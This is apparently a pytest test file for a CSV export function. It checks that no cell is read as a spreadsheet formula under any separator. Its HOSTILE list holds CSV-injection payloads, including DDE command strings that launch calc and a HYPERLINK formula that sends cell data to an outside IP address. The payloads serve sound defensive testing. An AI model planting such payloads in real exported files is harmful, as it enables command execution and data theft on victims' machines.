import csv
from datetime import UTC, datetime

import pytest

from model.text.csv_table import FORMULA_SIGNS, csv_line, write_csv

HOSTILE = [
    *(f"{sign}cmd|' /C calc'!A0" for sign in FORMULA_SIGNS),
    '=HYPERLINK("http://192.0.2.1/?"&A1, "Ann")',
    "\t=1+1", "\r=1+1", " =1+1", "\n \n@SUM(A1)", '"=1+1"', '" =1+1',
    "a;=1+1", "a,+1", "a\t-1", "a|@b", "a\n=1+1", 'a;"=1+1"', "a; \t=1", "Ann;\"\" =1", ";;=1",
]  # fmt: skip


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_is_a_formula_wherever_a_spreadsheet_cuts(hostile: str, separator: str) -> None:
    written = write_csv(["name", "role"], [["Ann", hostile], [hostile, "member"]])
    for text in (written, written.replace('"', "")):
        lines = text.removeprefix("\ufeff").splitlines(keepends=True)
        cells = [cell for line in csv.reader(lines, delimiter=separator) for cell in line]
        assert not [
            cell for cell in cells if cell.strip(' \t\r\n"').startswith(tuple(FORMULA_SIGNS))
        ]


def test_what_is_no_formula_is_written_as_it_is() -> None:
    names = ["Anna-Lena", "a = b", "Ann - Lee", "ann@school.example", 'Ann "Annie" Lee', "A, B; C"]
    assert [*csv.reader([csv_line(names)])] == [names]


def test_a_file_begins_as_excel_needs_it_and_has_values_as_json_has_them() -> None:
    at = datetime(2026, 11, 27, 3, 4, 5, 600, UTC)
    text = write_csv(
        ["at", "points", "active", "seen"], [[at, -5, True, None], [at, 0.5, False, ""]]
    )
    assert text == (
        "\ufeffat,points,active,seen\r\n"
        "2026-11-27T03:04:05.000600Z,-5,true,\r\n"
        "2026-11-27T03:04:05.000600Z,0.5,false,\r\n"
    )
